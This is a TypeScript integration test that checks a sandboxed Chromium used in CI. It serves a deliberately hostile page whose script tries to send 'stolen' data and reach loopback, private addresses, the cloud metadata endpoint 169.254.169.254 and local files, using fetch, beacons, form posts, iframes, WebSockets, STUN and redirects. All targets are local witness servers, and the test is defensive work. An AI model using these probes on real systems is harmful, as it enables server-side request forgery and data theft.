/** A page of a stranger's that wants to go elsewhere, in a real Chromium beside real servers that must not hear of it. */
import { createHash } from 'node:crypto';
import { createSocket, type Socket as Datagrams } from 'node:dgram';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { createSecureServer, type Http2SecureServer } from 'node:http2';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium as plain, type Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { makeThrowawayCa, type ThrowawayCa } from '../harness/throwaway-ca.ts';
import { readConfig } from '../../controller/config.ts';
import { launchBrowser, type LaunchedBrowser, screenshot } from '../../controller/stages/sandbox/browser.ts';

const CHROMIUM = '/usr/bin/chromium';
const DOMAIN = 'app.ci.test';
const CANARY = 'canary-of-the-machine';
const canLaunch = existsSync(CHROMIUM) && process.getuid?.() === 0;

let dir: string;
let ca: ThrowawayCa;
let app: Http2SecureServer;
let appPort: number;
/** What the app was asked for, by host. */
const asked = new Set<string>();
let witness: Server;
let datagrams: Datagrams;
/** What reached a server of the machine. */
let arrived: string[] = [];
let places: Places;
let launched: LaunchedBrowser;
let refused: string[] = [];

/** Where the page would go. */
interface Places {
  readonly web: string;
  readonly stun: string;
  readonly file: string;
}

/** Tries everything that a page can, and says so when nothing is left to wait for. */
function attack({ web, stun, file }: Places): string {
  const tries = [
    `http://${web}/x`,
    `https://${web}/x`,
    `http://169.254.169.254/latest/`,
    'http://10.0.0.1/',
    'http://[::1]/',
    'https://other.ci.test/',
    `file://${file}`,
  ];
  return `<!doctype html><title>begun</title><body><script>
    const urls = ${JSON.stringify(tries)};
    // Some say nothing when they are refused.
    const soon = (one) => Promise.race([one, new Promise((done) => setTimeout(done, 5000))]);
    const loaded = (element, url) => new Promise((done) => {
      element.onload = element.onerror = done;
      element.src = url;
      document.body.append(element);
    });
    const posted = (url) => new Promise((done) => {
      const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random(), onload: done });
      const form = Object.assign(document.createElement('form'), { method: 'post', action: url, target: frame.name });
      form.innerHTML = '<input name=stolen value=data>';
      document.body.append(frame, form);
      form.submit();
    });
    const socket = (url) => new Promise((done) => {
      const ws = new WebSocket(url);
      ws.onclose = ws.onerror = done;
    });
    const called = async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] });
      peer.createDataChannel('x');
      const gathered = new Promise((done) => (peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done()));
      await peer.setLocalDescription(await peer.createOffer());
      await gathered;
    };
    const all = urls.flatMap((url) => [
      fetch(url, { method: 'POST', mode: 'no-cors', body: 'stolen' }),
      loaded(new Image(), url),
      loaded(document.createElement('iframe'), url),
      loaded(document.createElement('script'), url),
      url.startsWith('file') ? null : posted(url),
      url.startsWith('http:') ? socket(url.replace('http', 'ws')) : null,
      navigator.sendBeacon(url.startsWith('file') ? 'https://other.ci.test/' : url, 'stolen'),
    ]);
    Promise.allSettled([...all, called()].map(soon)).then(() => (document.title = 'done'));
  </script>`;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ccci-attack-'));
  const file = join(dir, 'secret.html');
  await writeFile(file, CANARY);
  ca = await makeThrowawayCa();
  witness = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.end(CANARY);
  });
  // Also what is no HTTP, and ends in a handshake, has arrived.
  witness.on('connection', () => arrived.push('a connection'));
  witness.on('clientError', (_error, socket) => socket.destroy());
  witness.listen(0, '127.0.0.1');
  await once(witness, 'listening');
  datagrams = createSocket('udp4', () => arrived.push('a datagram'));
  datagrams.bind(0, '127.0.0.1');
  await once(datagrams, 'listening');
  places = {
    web: `127.0.0.1:${(witness.address() as AddressInfo).port}`,
    stun: `127.0.0.1:${datagrams.address().port}`,
    file,
  };
  await startApp();
}, 30_000);

async function startApp(): Promise<void> {
  const { key, cert } = await ca.issue(['*.ci.test', '*.app.ci.test']);
  app = createSecureServer({ key, cert, allowHTTP1: true }, (request, response) => {
    asked.add(request.authority ?? String(request.headers.host));
    const to = new URL(request.url, 'https://x').searchParams.get('to');
    if (to === null) response.writeHead(200, { 'content-type': 'text/html' }).end(attack(places));
    else response.writeHead(302, { location: to }).end();
  });
  app.on('upgrade', (request, socket) => {
    const accept = createHash('sha1').update(`${String(request.headers['sec-websocket-key'])}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`); // oxfmt-ignore
    socket.on('error', () => undefined);
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept.digest('base64')}\r\n\r\n`); // oxfmt-ignore
  });
  app.listen(0, '127.0.0.1');
  await once(app, 'listening');
  appPort = (app.address() as AddressInfo).port;
}

afterAll(async () => {
  witness.closeAllConnections();
  witness.close();
  datagrams.close();
  app.close();
  await ca.remove();
  await rm(dir, { recursive: true, force: true });
});
beforeEach(() => {
  arrived = [];
  refused = [];
  asked.clear();
});

const options = () => ({
  chromium: CHROMIUM,
  domain: DOMAIN,
  address: '127.0.0.1',
  port: appPort,
  caFile: ca.caFile,
  env: readConfig().baseEnv,
  onRefused: (where: string): void => void refused.push(where),
});

async function opened(page: Page, url: string): Promise<void> {
  await page.goto(url, { waitUntil: 'commit', timeout: 120_000 });
  await page.waitForFunction(() => document.title === 'done', undefined, { timeout: 200_000 });
}

/** All that the page and what is in it show. */
async function shown(page: Page): Promise<string> {
  // One without an address was refused before it began, and never says that it has ended.
  const begun = page.frames().filter((frame) => frame.url() !== '');
  const texts = await Promise.all(begun.map((frame) => frame.content().catch(() => '')));
  return texts.map((text) => text.replace(/<script>[^]*<\/script>/, '')).join('\n');
}

describe.skipIf(!canLaunch)('a page that wants to go elsewhere', { timeout: 500_000 }, () => {
  beforeAll(async () => void (launched = await launchBrowser(options())), 60_000);
  afterAll(() => launched.close());

  it('would get there from a browser that nobody has put into a sandbox', async () => {
    // All of the world is the witness, so that nothing leaves this machine.
    const rules = `MAP *.ci.test 127.0.0.1:${appPort}, MAP * ${places.web}`;
    const browser = await plain.launch({
      executablePath: CHROMIUM,
      chromiumSandbox: false,
      args: [`--host-resolver-rules=${rules}`, '--ignore-certificate-errors'],
    });
    try {
      const page = await browser.newPage();
      await opened(page, `https://${DOMAIN}/`);
      expect(arrived).toEqual(expect.arrayContaining(['POST /x', 'GET /x', 'a connection', 'a datagram']));
      expect([...asked]).toContain('other.ci.test');
      for (const url of [`http://${places.web}/`, `file://${places.file}`]) {
        const other = await browser.newPage();
        await other.goto(url, { timeout: 120_000 });
        expect(await other.content()).toContain(CANARY);
      }
    } finally {
      await browser.close();
    }
  });

  it('reaches nothing by asking, posting, embedding, connecting or calling', async () => {
    const page = await launched.browser.newPage();
    await opened(page, `https://${DOMAIN}/`);
    expect(arrived).toEqual([]);
    expect(await shown(page)).not.toContain(CANARY);
    expect([...asked]).toEqual([DOMAIN]);
    expect(refused).toEqual(expect.arrayContaining([places.web, `http://${places.web}/x`, 'other.ci.test:443', 'http://169.254.169.254/latest/', 'http://10.0.0.1/', 'http://[::1]/'])); // oxfmt-ignore
    await page.close();
  });

  it.each([
    { because: 'loopback', to: () => `http://${places.web}/` },
    { because: 'loopback, by TLS', to: () => `https://${places.web}/` },
    { because: 'loopback, by a name', to: () => `http://localhost:${places.web.split(':')[1]}/` },
    { because: 'the tunnel itself', to: () => 'http://127.0.0.1:3128/' },
    { because: 'a neighbour', to: () => 'http://192.168.1.1/' },
    { because: 'the metadata address', to: () => 'http://169.254.169.254/latest/meta-data/' },
    { because: 'another app', to: () => 'https://other.ci.test/' },
    { because: 'a file', to: () => `file://${places.file}` },
  ])('shows nothing of where it redirects to: $because', async ({ to }) => {
    for (const url of [`https://${DOMAIN}/?to=${encodeURIComponent(to())}`, to()]) {
      const page = await launched.browser.newPage();
      // It ends as an error page, which Chromium may say or not.
      await page.goto(url).catch(() => undefined);
      expect(await shown(page)).not.toContain(CANARY);
      await page.close();
    }
    expect(arrived).toEqual([]);
    expect([...asked].filter((host) => host !== DOMAIN)).toEqual([]);
  });

  it('leaves no picture of it as evidence', async () => {
    const file = join(dir, 'elsewhere.png');
    const to = encodeURIComponent(`https://${places.web}/`);
    const { reason } = await screenshot({ ...options(), url: `https://${DOMAIN}/?to=${to}`, file });
    expect(reason).toMatch(/ERR_TUNNEL_CONNECTION_FAILED/);
    expect([arrived, existsSync(file)]).toEqual([[], false]);
  });

  it('reaches its own app, and the names below it, by HTTP/2 and by WebSocket', async () => {
    const page = await launched.browser.newPage();
    await page.goto(`https://${DOMAIN}/`);
    const how = await page.evaluate(async (domain) => {
      const [entry] = performance.getEntriesByType('navigation') as PerformanceNavigationTiming[];
      const socket = new WebSocket(`wss://${domain}/socket`);
      const opened = await new Promise((done) => {
        for (const kind of ['open', 'error']) socket.addEventListener(kind, () => done(kind));
      });
      return [entry?.nextHopProtocol, opened];
    }, DOMAIN);
    expect(how).toEqual(['h2', 'open']);
    expect((await page.goto(`https://api.${DOMAIN}/`))?.status()).toBe(200);
    expect([...asked]).toEqual([DOMAIN, `api.${DOMAIN}`]);
    await page.close();
  });

  it('finds no file of the machine where its own are', async () => {
    const status = await readFile(`/proc/${launched.pid}/status`, 'utf8');
    expect(status).toContain('Name:\tbwrap');
    expect((await stat(launched.home)).mode & 0o777).toBe(0o700);
  });
});
